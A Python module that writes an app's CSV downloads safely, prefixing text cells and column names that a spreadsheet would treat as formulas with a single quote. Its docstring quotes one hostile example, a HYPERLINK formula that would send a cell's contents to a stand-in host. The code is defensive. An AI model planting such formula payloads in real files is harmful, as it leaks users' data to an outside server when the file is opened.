"""CSV that a spreadsheet cannot run: every CSV the app writes (downloads, the workbench, `kpis --format csv`) is made
here.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return before
one) as a formula: a dataset named `=HYPERLINK("http://evil.example/?"&A2,"Mở")`, or a sign-in name typed by anyone
into the audit log, would run as one when a leader opens the download. Text cells (and column names) that start
with one of these characters get a leading single quote, the usual neutraliser: the spreadsheet shows the text as
text. Numbers, dates and missing values are written as they are (a negative number stays a number).
"""

from __future__ import annotations

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = r"^[=+\-@\t\r]"


def safe_text(text: str) -> str:
    """One text value as a spreadsheet must read it: a leading quote when it would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def neutralised(df: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell (and column name) that would start a formula prefixed with `'`."""
    text_columns = [
        name for name, dtype in df.schema.items() if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)
    ]
    out = df.with_columns(
        pl.when(pl.col(c).cast(pl.String).str.contains(_PATTERN))
        .then(pl.lit("'") + pl.col(c).cast(pl.String))
        .otherwise(pl.col(c).cast(pl.String))
        .alias(c)
        for c in text_columns
    )
    return out.rename({c: safe_text(c) for c in out.columns if safe_text(c) != c})


def csv_text(df: pl.DataFrame, **options) -> str:
    """The frame as CSV text, neutralised; `options` go to polars' write_csv (e.g. null_value)."""
    return neutralised(df).write_csv(**options)


def csv_bytes(df: pl.DataFrame, **options) -> bytes:
    """The frame as a CSV download: UTF-8 with a BOM (so Excel reads Vietnamese), neutralised."""
    return csv_text(df, **options).encode("utf-8-sig")
